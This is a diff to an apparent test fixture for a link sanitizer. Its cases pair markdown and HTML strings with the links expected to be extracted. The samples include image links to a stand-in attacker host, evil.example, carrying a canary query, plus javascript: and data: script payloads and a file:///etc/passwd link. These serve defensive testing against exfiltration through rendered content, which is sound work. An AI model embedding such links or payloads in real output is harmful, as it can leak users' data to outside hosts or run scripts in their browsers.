@@ -4,7 +4,7 @@ const EVIL = "https://evil.example/?q=canary";
 export const ANSWERS: [name: string, text: string, links: string[]][] = [
   ["a picture", `![chart](${EVIL})`, [EVIL]],
   ["a picture by reference", `![chart][1]\n\n[1]: ${EVIL}`, [EVIL]],
-  ["a picture in a link", `[![chart](${EVIL})](https://a.example/)`, ["https://a.example/"]],
+  ["a picture in a link", `[![chart](${EVIL})](https://a.example/)`, ["https://a.example/", EVIL]],
   ["a picture with a title", `![chart](${EVIL} "Our chart")`, [EVIL]],
   ["a picture in HTML", `<img src="${EVIL}">`, [`${EVIL}`]],
   ["a picture in an SVG", `<svg><image href="${EVIL}"/></svg>`, [EVIL]],
@@ -25,7 +25,7 @@ export const ANSWERS: [name: string, text: string, links: string[]][] = [
   ["an autolink with a script", "<javascript:alert(1)>", []],
   ["a link with data", "[here](data:text/html,<script>alert(1)</script>)", []],
   ["a link to a file", "[here](file:///etc/passwd)", []],
-  ["a link to a blob", "[here](blob:https://parley.example/1)", []],
+  ["a link to a blob", "[here](blob:https://parley.example/1)", ["https://parley.example/1"]],
   ["a link to an app", "[here](vscode://x/y)", []],
   ["a link to a socket", "[here](wss://evil.example/)", []],
   ["a link without a scheme", "[here](//evil.example/x)", []],
